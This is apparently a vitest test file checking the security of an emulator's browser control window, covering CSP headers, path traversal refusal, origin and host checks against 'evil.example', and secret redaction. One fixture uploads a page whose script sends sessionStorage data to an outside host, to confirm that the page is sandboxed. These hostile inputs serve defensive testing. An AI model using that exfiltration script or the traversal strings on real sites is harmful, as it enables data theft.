import { request } from "node:http";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { Agave } from "../../../src/agave/index.ts";
import {
  emulateAgave,
  emulateSaagie,
  type EmulatedSaagie,
  type Listening,
} from "../../../src/emulator/index.ts";
import { Saagie } from "../../../src/saagie/index.ts";

// The window without a browser: its files, who may have them, and what it is told. test/browser has it in one.

let emulator: EmulatedSaagie;
let listening: Listening;

beforeEach(async () => {
  emulator = emulateSaagie({ clock: "manual", projectSeconds: 0 });
  listening = await emulator.listen({ allowHosts: ["emulator.test"] });
});

afterEach(() => emulator.close());

interface Reply {
  readonly status: number | undefined;
  readonly headers: NodeJS.Dict<string | string[]>;
  readonly text: string;
}

/** Asks as a browser can, which tells host and origin by itself, and does not tidy paths up. */
function ask(path: string, headers: Readonly<Record<string, string>> = {}, method = "GET"): Promise<Reply> {
  return new Promise((resolve, reject) => {
    const sent = request({ port: listening.port, host: "127.0.0.1", path, method, headers }, (answer) => {
      let text = "";
      answer.setEncoding("utf8");
      answer.on("data", (chunk: string) => {
        text += chunk;
      });
      answer.on("end", () => resolve({ status: answer.statusCode, headers: answer.headers, text }));
    });
    sent.on("error", reject).end();
  });
}

const withKey = (): { authorization: string } => ({ authorization: `Bearer ${listening.control.key}` });

async function read(path: string): Promise<unknown> {
  const { status, text } = await ask(`/_footbridge${path}`, withKey());
  return { status, body: JSON.parse(text) as unknown };
}

describe("the files of the window", () => {
  test("are served without the key, under a policy that lets nothing in", async () => {
    const { status, headers, text } = await ask("/_footbridge/");
    expect([status, headers["content-type"]]).toEqual([200, "text/html; charset=utf-8"]);
    const policy = String(headers["content-security-policy"]);
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).not.toContain("unsafe");
    expect([headers["x-content-type-options"], headers["referrer-policy"]]).toEqual([
      "nosniff",
      "no-referrer",
    ]);
    expect(text).not.toMatch(/<style|style=|<script(?![^>]*src=)|\son\w+=/);
    for (const [, address = ""] of text.matchAll(/(?:src|href)="(window\/[^"]+)"/g))
      expect(await ask(`/_footbridge/${address}`)).toMatchObject({ status: 200 });
    expect(emulator.requests).toEqual([]);
  });

  test("are scripts that a browser can run, and that import nothing from elsewhere", async () => {
    const seen = new Set<string>();
    const open = ["main.js"];
    for (let name = open.pop(); name !== undefined; name = open.pop()) {
      if (seen.has(name)) continue;
      seen.add(name);
      const { status, headers, text } = await ask(`/_footbridge/window/${name}`);
      expect([name, status, headers["content-type"]]).toEqual([name, 200, "text/javascript; charset=utf-8"]);
      expect(text).not.toMatch(/innerHTML|insertAdjacentHTML|document\.write|\beval\(|^interface /m);
      const base = new URL(name, "http://window.invalid/");
      for (const [, specifier = ""] of text.matchAll(/from "([^"]+)"/g))
        open.push(new URL(specifier, base).pathname.slice(1));
    }
    expect(seen.size).toBeGreaterThan(15);
  });

  test("are all there is: no path leads out of their folder", async () => {
    const paths = [
      "../window-file.ts",
      "..%2fshown.ts",
      "views/../../README.md",
      "",
      "main.d.ts",
      "nothing.js",
      "README.md",
    ];
    for (const path of paths)
      expect(await ask(`/_footbridge/window/${path}`)).not.toMatchObject({ status: 200 });
    expect(await ask("/_footbridge")).toMatchObject({ status: 308, headers: { location: "/_footbridge/" } });
  });

  test("are for this machine's browsers, and not for pages of other sites", async () => {
    expect(await ask("/_footbridge/", { host: "evil.example" })).toMatchObject({ status: 421 });
    expect(await ask("/_footbridge/", { origin: "http://evil.example" })).toMatchObject({ status: 403 });
  });
});

describe("who steers from a page", () => {
  const own = (): string => `http://127.0.0.1:${String(listening.port)}`;

  test("is the window itself, with the key", async () => {
    const pause = (origin: string, more: Readonly<Record<string, string>> = withKey()): Promise<Reply> =>
      ask("/_footbridge/clock/pause", { origin, ...more }, "POST");
    expect(await pause(own())).toMatchObject({ status: 200 });
    expect(await pause(own(), {})).toMatchObject({ status: 401 });
    const allowed = { host: `emulator.test:${String(listening.port)}`, ...withKey() };
    expect(await pause(`http://emulator.test:${String(listening.port)}`, allowed)).toMatchObject({
      status: 200,
    });
    // Another port, scheme or name of this machine is another site.
    for (const origin of [
      own().replace("127.0.0.1", "localhost"),
      own().replace("http", "https"),
      "http://127.0.0.1",
      "null",
    ])
      expect(await pause(origin)).toMatchObject({ status: 403 });
  });

  test("is nobody outside of the control API: what the emulator serves there is no page of its own", async () => {
    for (const path of ["/anything", "/_footbridgeful/clock/pause", "/x/_footbridge/clock/pause"])
      expect(await ask(path, { origin: own(), ...withKey() }, "POST")).toMatchObject({ status: 403 });
  });
});

describe("what the window is told", () => {
  const SECRET = "hunter2-of-the-orders";

  beforeEach(async () => {
    const { url, realm, platform, user, password } = emulator;
    const saagie = new Saagie({ url, realm, platform, user, password });
    await saagie.projects.create({ name: "Sales" });
    emulator.clock.advance(1000);
    const file = { name: "a.sh", content: "ls" };
    for (const name of ["Load", "Report"])
      await saagie.jobs.create("Sales", {
        name,
        technology: "Bash",
        commandLine: `sh {file} ${SECRET}`,
        file,
      });
    const variable = { name: "DB_PASSWORD", value: SECRET, isPassword: true };
    await saagie.environmentVariables.create({ project: "Sales" }, variable);
    emulator.scripts.setDefault({ lines: [`the password is ${SECRET}`] });
    await saagie.jobs.run({ project: "Sales", name: "Load" });
    emulator.clock.advance(60_000);
  });

  test("needs the key", async () => {
    for (const path of ["/resources", "/resources/jobs", "/events?watch=/clock"])
      expect(await ask(`/_footbridge${path}`)).toMatchObject({ status: 401 });
  });

  test("is what there is, by kind, and one by one", async () => {
    expect(await read("/resources")).toEqual({
      status: 200,
      body: {
        emulator: "saagie",
        facts: { Version: emulator.platformVersion, Realm: "demo" },
        kinds: ["projects", "jobs", "runs", "pipelines", "pipeline-runs", "apps", "variables"],
      },
    });
    const { body } = (await read("/resources/jobs?limit=1")) as {
      readonly body: { readonly total: number; readonly items: readonly { readonly id: string }[] };
    };
    expect(body).toMatchObject({
      total: 2,
      items: [{ name: "Load", runs: 1, lastRun: { status: "SUCCEEDED" } }],
    });
    expect(await read(`/resources/jobs/${body.items[0]?.id ?? ""}`)).toMatchObject({
      body: { name: "Load", package: "a.sh", newestRuns: [{ number: 1 }] },
    });
    expect(await read("/resources/jobs?project=none")).toMatchObject({ body: { total: 0, items: [] } });
  });

  test("is refused where there is none", async () => {
    const paths = [
      "/resources/nothing",
      "/resources/jobs/none",
      "/resources/constructor",
      "/resources/jobs/a/b",
      "/resource",
    ];
    for (const path of paths) expect(await read(path)).toMatchObject({ status: 404 });
    for (const path of [
      "/resources/jobs?limit=0",
      "/events",
      `/events?${"watch=/clock&".repeat(13)}`,
      "/resources/jobs/%E0",
    ])
      expect(await read(path)).toMatchObject({ status: 400 });
  });

  test("has no secrets in it, not in output that has them either", async () => {
    const { kinds } = ((await read("/resources")) as { readonly body: { readonly kinds: readonly string[] } })
      .body;
    let all = "";
    for (const kind of kinds) {
      const { text } = await ask(`/_footbridge/resources/${kind}`, withKey());
      const { items } = JSON.parse(text) as { readonly items: readonly { readonly id: string }[] };
      const details = await Promise.all(
        items.map(({ id }) => ask(`/_footbridge/resources/${kind}/${id}`, withKey())),
      );
      all += [text, ...details.map((detail) => detail.text)].join("\n");
    }
    expect(all).toContain("the password is ••••••");
    expect(all).toContain("DB_PASSWORD");
    expect(all).not.toContain(SECRET);
  });

  test("is told again when it changes, and only then", async () => {
    const end = new AbortController();
    const query = ["/clock", "/resources/projects", "/resources/jobs/none"]
      .map((path) => `watch=${path}`)
      .join("&");
    const answer = await fetch(`${listening.control.url}/events?${query}`, {
      headers: withKey(),
      signal: end.signal,
    });
    expect(answer.headers.get("content-type")).toContain("text/event-stream");
    const reader = (answer.body ?? new Blob([]).stream()).pipeThrough(new TextDecoderStream()).getReader();
    const next = async (): Promise<readonly unknown[]> =>
      ((await reader.read()).value ?? "")
        .split("\n\n")
        .filter(Boolean)
        .map((event) => JSON.parse(event.replace(/^data: /, "")) as unknown);
    expect(await next()).toMatchObject([
      { path: "/clock", value: { mode: "manual" } },
      { path: "/resources/projects", value: { total: 1 } },
      { path: "/resources/jobs/none", error: "There is no jobs none" },
    ]);
    emulator.clock.advance(1000);
    expect(await next()).toMatchObject([{ path: "/clock" }]);
    await emulator.reset();
    expect(await next()).toMatchObject([{ path: "/resources/projects", value: { total: 0 } }]);
    end.abort();
    await expect(reader.read()).rejects.toThrow("abort");
  });
});

test("a page that somebody has uploaded gets an origin of its own: it reads nothing that the window keeps", async () => {
  const agave = emulateAgave();
  try {
    const { url } = await agave.listen();
    const { user: username, password, clientKey: apiKey, clientSecret: apiSecret } = agave;
    const client = new Agave({ baseUrl: url, username, password, apiKey, apiSecret });
    const page = "<script>fetch('//elsewhere/?' + sessionStorage.key)</script>";
    await client.files.upload({ name: "page.html", content: page }, "agave://data/ann/page.html", {
      wait: true,
    });
    const { postit } = await client.postits.create({
      url: `${url}/files/v2/media/system/data/ann/page.html`,
      method: "GET",
    });
    const opened = await fetch(client.postits.urlOf(postit));
    expect(opened.headers.get("content-type")).toContain("text/html");
    expect(opened.headers.get("content-security-policy")).toBe("sandbox");
    expect(await opened.text()).toBe(page);
  } finally {
    await agave.close();
  }
});
